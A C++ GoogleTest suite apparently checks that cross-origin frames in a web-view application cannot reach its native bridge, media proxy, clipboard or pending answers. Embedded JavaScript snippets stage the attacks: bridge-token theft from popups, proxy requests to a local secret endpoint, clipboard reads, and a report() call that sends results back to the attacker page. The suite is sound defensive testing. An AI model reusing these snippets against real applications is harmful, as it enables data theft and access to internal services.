// Third-party content against the application's powers: a loopback server
// stands for other origins, and its frames and pages try, as an attacker
// would, to reach the backend, the media proxy, the clipboard and the
// answers meant for the application. Each attack must leave the backend
// hearing nothing and the loopback target never fetched; the application's
// own page keeps every power.
#include <gtest/gtest.h>

#include <chrono>
#include <mutex>
#include <thread>

#include "harness.h"
#include "http_server.h"

using namespace e2e;

namespace {

std::string url_decode(const std::string& s) {
  std::string out;
  for (size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '%' && i + 2 < s.size()) {
      out += static_cast<char>(std::stoi(s.substr(i + 1, 2), nullptr, 16));
      i += 2;
    } else {
      out += s[i] == '+' ? ' ' : s[i];
    }
  }
  return out;
}

std::string url_encode(const std::string& s) {
  static const char* hex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    if (isalnum(c) || c == '-' || c == '_' || c == '.') out += static_cast<char>(c);
    else out += std::string("%") + hex[c >> 4] + hex[c & 15];
  }
  return out;
}

std::string js_str(const std::string& s) {
  std::string out = "'";
  for (char c : s) {
    if (c == '\'' || c == '\\') out += '\\';
    out += c;
  }
  return out + "'";
}

// "/frame?js=<script>" is a page running that script; "/secret" is the
// local service nobody may reach through the proxy; "/ok" is media the
// application's own page fetches.
HttpResponse route(const HttpRequest& req) {
  HttpResponse r;
  r.headers = {{"Content-Type", "text/html"}};
  if (req.path == "/frame") {
    size_t q = req.target.find("js=");
    std::string js = q == std::string::npos ? "" : url_decode(req.target.substr(q + 3));
    r.body = "<!doctype html><html><head><meta charset=utf-8><title>other</title></head><body>"
             "<div id=ed contenteditable>x</div><script>" + js + "</script></body></html>";
  } else if (req.path == "/secret" || req.path == "/ok") {
    r.headers = {{"Content-Type", "image/png"}};
    r.body = "not really a png";
  } else if (req.path == "/file.bin") {
    r.headers = {{"Content-Type", "application/x-ovalis-test"}};
    r.body = "payload";
  } else if (req.path == "/report") {
    r.body = "ok";
  } else {
    r.status = 404;
  }
  return r;
}

HttpServer& srv() {
  static HttpServer s(route);
  return s;
}

std::vector<std::string> reports() {
  std::vector<std::string> out;
  for (auto& r : srv().requests())
    if (r.path == "/report") out.push_back(url_decode(r.target.substr(r.target.find('?') + 1)));
  return out;
}

bool fetched(const std::string& path) {
  for (auto& r : srv().requests())
    if (r.path == path) return true;
  return false;
}

// Script for the attacker's frame that sends a text home.
const char* kReport = "function report(t){fetch('/report?'+encodeURIComponent(t))}";

bool is_call(const std::string& l) { return l.rfind("CALL ", 0) == 0; }

class Security : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    srv();
    Options o;
    o.env = {{"OVALIS_POPUPS", "window"}, {"OVALIS_MEDIA_ORIGINS", std::nullopt}};
    b_ = start_page(o);
    ASSERT_TRUE(b_);
  }
  static void TearDownTestSuite() { stop_page(b_); }
  void SetUp() override { b_->collect(0); }

  // Puts a cross-origin frame running js into the application's page.
  static void frame(const std::string& js) {
    std::string src = srv().url("/frame?js=" + url_encode(std::string(kReport) + ";" + js));
    b_->send("EVAL " + wire_escape("var f=document.createElement('iframe');f.src=" + js_str(src) +
                                   ";document.body.appendChild(f)"));
  }
  static bool reported(const std::string& prefix, int ms = 8000) {
    return eventually([&] {
      for (auto& r : reports())
        if (r.rfind(prefix, 0) == 0) return true;
      return false;
    }, ms);
  }
  static Backend* b_;
};
Backend* Security::b_ = nullptr;

TEST_F(Security, PopupOfAFrameGetsNoBridgeNorAWindowWithoutAYes) {
  frame("var w=window.open('');"
        "setTimeout(function(){var t=w&&w.__OVALIS_TOK;"
        " try{w.webkit.messageHandlers.ovalis.postMessage((t||'')+'|1:{\"method\":\"steal\"}')}"
        " catch(e){}"
        " report('popup-token:'+(t||''))},900)");
  auto q = b_->expect_prefix("POPUPQ ");
  ASSERT_TRUE(q);
  // Marked as a frame's, and denied when the backend stays silent.
  EXPECT_EQ(q->substr(q->size() - 6), "\tframe") << *q;
  std::string win = q->substr(q->find(' ', 7) + 1);
  win = win.substr(0, win.find('\t'));
  auto ev = b_->expect_prefix("POPUP {");
  ASSERT_TRUE(ev);
  EXPECT_NE(ev->find("\"action\":\"deny\""), std::string::npos) << *ev;
  EXPECT_TRUE(reported("popup-token:"));
  for (auto& r : reports())
    if (r.rfind("popup-token:", 0) == 0) EXPECT_EQ(r, "popup-token:");
  EXPECT_TRUE(b_->collect(300, is_call).empty());

  // The backend's explicit yes shows the window, still without the bridge.
  frame("var w=window.open('');"
        "setTimeout(function(){var t=w&&w.__OVALIS_TOK;"
        " try{w.webkit.messageHandlers.ovalis.postMessage((t||'')+'|1:{\"method\":\"steal2\"}')}"
        " catch(e){}"
        " report('yes-token:'+(t||''))},900)");
  q = b_->expect_prefix("POPUPQ ");
  ASSERT_TRUE(q);
  b_->send("POPUPR " + q->substr(7, q->find(' ', 7) - 7) + " window");
  ev = b_->expect_prefix("POPUP {");
  ASSERT_TRUE(ev);
  EXPECT_NE(ev->find("\"action\":\"window\""), std::string::npos) << *ev;
  EXPECT_TRUE(reported("yes-token:"));
  for (auto& r : reports())
    if (r.rfind("yes-token:", 0) == 0) EXPECT_EQ(r, "yes-token:");
  EXPECT_TRUE(b_->collect(300, is_call).empty());
}

TEST_F(Security, FramesCannotFloodWithPopups) {
  frame("for(var i=0;i<40;i++)window.open('about:blank#'+i)");
  auto qs = b_->collect(2500, [](const std::string& l) { return l.rfind("POPUPQ ", 0) == 0; });
  EXPECT_LE(qs.size(), 4u);
  b_->collect(1000);
}

TEST_F(Security, FramesCannotStartDownloadsUnasked) {
  frame("location.href='/file.bin'");
  EXPECT_TRUE(eventually([] { return fetched("/file.bin"); }, 8000));
  EXPECT_TRUE(b_->collect(1500, [](const std::string& l) {
    return l.rfind("DOWNLOAD ", 0) == 0;
  }).empty());
}

TEST_F(Security, TheProxyServesNoFrameHoweverItAsks) {
  std::string target = "ovalis-media://proxy/?u=" + url_encode(srv().url("/secret"));
  frame("var u=" + js_str(target) + ";"
        "var i=new Image();i.src=u;document.body.appendChild(i);"
        "var a=document.createElement('audio');a.src=u+'&a';document.body.appendChild(a);"
        "var d=document.createElement('div');d.style.backgroundImage='url('+u+'&c)';"
        "d.textContent='x';document.body.appendChild(d);"
        "fetch(u+'&f').then(function(){report('fetched')},function(){report('refused')})");
  EXPECT_TRUE(reported("refused"));
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  EXPECT_FALSE(fetched("/secret"));

  // The page's own image and fetch through ovalis.proxyURL are served.
  b_->send("EVAL " + wire_escape("var i=new Image();i.src=ovalis.proxyURL(" +
                                 js_str(srv().url("/ok")) + ");document.body.appendChild(i)"));
  EXPECT_TRUE(eventually([] { return fetched("/ok"); }, 8000));
}

// A cross-origin frame has no bytes helper and no key: whatever it sends to
// the bytes scheme is refused and the backend hears of no upload.
TEST_F(Security, FramesMoveNoBytes) {
  frame("var ok=function(r){report('bytes '+(typeof window.__ovalisBytes)+' '+r.status)};"
        "fetch('ovalis-blob://b/?k='+'0'.repeat(32),{method:'POST',body:new Uint8Array(8)})"
        ".then(ok,function(){report('bytes '+(typeof window.__ovalisBytes)+' refused')})");
  EXPECT_TRUE(reported("bytes undefined ", 12000));
  for (auto& r : reports())
    if (r.rfind("bytes ", 0) == 0) EXPECT_EQ(r.find(" 200"), std::string::npos) << r;
  EXPECT_FALSE(b_->expect_prefix("BLOB ", 300));
}

TEST_F(Security, TheClipboardStaysPrivateToThePageItself) {
  b_->send("CLIPWRITE hunter2-secret");
  frame("var ed=document.getElementById('ed');ed.focus();document.execCommand('selectAll');"
        "var a=document.execCommand('paste');"
        "var i=document.createElement('iframe');document.body.appendChild(i);"
        "var b=false;try{b=i.contentWindow.Document.prototype.execCommand.call(document,'paste')}"
        "catch(e){}"
        "var t=ed.textContent;"
        "(navigator.clipboard?navigator.clipboard.readText():Promise.reject()).then("
        " function(c){report('clip:'+a+b+t+'|'+c)},function(){report('clip:'+a+b+t+'|')})");
  ASSERT_TRUE(reported("clip:"));
  for (auto& r : reports()) EXPECT_EQ(r.find("hunter2"), std::string::npos) << r;
  if (on_wayland()) return;  // the headless compositor has no seat, so no clipboard
  // The application's own page still reads it without a gesture.
  EXPECT_EQ(b_->page_eval("(function(){var d=document.createElement('div');d.contentEditable=true;"
                          "document.body.appendChild(d);d.focus();document.execCommand('paste');"
                          "var t=d.textContent;d.remove();return t})()"),
            "\"hunter2-secret\"");
}

TEST_F(Security, TheApplicationsOwnPopupKeepsTheBridge) {
  b_->send("EVAL " + wire_escape("window.__w=window.open('')"));
  auto q = b_->expect_prefix("POPUPQ ");
  ASSERT_TRUE(q);
  EXPECT_EQ(q->substr(q->size() - 7), "\twindow") << *q;
  std::string win = q->substr(q->find(' ', 7) + 1);
  win = win.substr(0, win.find('\t'));
  ASSERT_TRUE(b_->expect_prefix("POPUP {"));
  // Its blank page is the opener's, with the opener's origin.
  ASSERT_TRUE(eventually([&] { return b_->page_eval("!!window.__w.__OVALIS_TOK") == "true"; }));
  b_->send("EVAL " + wire_escape("window.__w.__invoke('{\"method\":\"own\"}')"));
  auto call = b_->expect([](const std::string& l) { return is_call(l); });
  ASSERT_TRUE(call);
  auto c = parse_call(*call);
  EXPECT_EQ(c->id.substr(0, c->id.find(':')), win);
  EXPECT_EQ(c->origin, "file://");
  b_->send("WINCLOSE " + win);
  EXPECT_TRUE(b_->expect_prefix("WINCLOSED " + win));
}

// In the other modes the page's own window.open is asked about as before,
// unmarked, and the configured mode stands when the backend stays silent.
TEST(SecurityModes, OwnPopupsKeepTheirModes) {
  for (std::string mode : {"external", "deny"}) {
    Options o;
    o.env = {{"OVALIS_POPUPS", mode}};
    Backend* b = start_page(o);
    ASSERT_TRUE(b);
    b->send("EVAL window.open('about:blank')");
    auto q = b->expect_prefix("POPUPQ ");
    ASSERT_TRUE(q);
    EXPECT_EQ(q->substr(q->find(' ', 7)), " -\tmain\tabout:blank\t" + mode);
    auto ev = b->expect_prefix("POPUP {");
    ASSERT_TRUE(ev);
    EXPECT_NE(ev->find("\"action\":\"" + mode + "\""), std::string::npos) << *ev;
    stop_page(b);
  }
}

// Cut short, an overlong path would reach whatever socket lives at the
// shorter one; it is refused instead.
TEST(SecuritySocket, OverlongSocketPathIsRefused) {
  Backend b;
  std::string path = "/tmp/" + std::string(200, 'x') + ".sock";
  ASSERT_TRUE(b.start({.expect_connect = false,
                       .command = {launcher_bin(), page_path("blank.html"), path}}));
  EXPECT_EQ(b.wait_exit(), 1);
  EXPECT_NE(b.stderr_text().find("ovalis: socket path too long"), std::string::npos)
      << b.stderr_text();
}

// Runs last: it navigates the application's window away.
TEST_F(Security, ZAnswerForAGoneDocumentIsDropped) {
  b_->send("EVAL " + wire_escape("window.__invoke('{\"method\":\"slow\"}')"));
  auto call = b_->expect([](const std::string& l) {
    auto c = parse_call(l);
    return c && c->payload.find("slow") != std::string::npos;
  });
  ASSERT_TRUE(call);
  std::string id = parse_call(*call)->id;
  // A remote page replaces the document and waits for the answer.
  std::string evil = srv().url("/frame?js=" + url_encode(std::string(kReport) +
      ";window.__ovalisResolve=function(s,ok,t){report('stolen:'+t)};"
      "setTimeout(function(){window.__invoke&&window.__invoke('{\"method\":\"hi\"}')},300)"));
  b_->send("EVAL " + wire_escape("location.href=" + js_str(evil)));
  auto hi = b_->expect([](const std::string& l) {
    auto c = parse_call(l);
    return c && c->payload.find("\"hi\"") != std::string::npos;
  }, 15000);
  ASSERT_TRUE(hi);
  // It calls with its own origin, for the backend to refuse.
  EXPECT_EQ(parse_call(*hi)->origin, "http://127.0.0.1:" + std::to_string(srv().port()));
  b_->send("RET " + id + " 0 {\"secret\":42}");
  b_->send("RET " + parse_call(*hi)->id + " 0 {\"fine\":1}");
  EXPECT_TRUE(reported("stolen:{\"fine\":1}"));
  for (auto& r : reports()) EXPECT_EQ(r.find("secret"), std::string::npos) << r;
}

}  // namespace
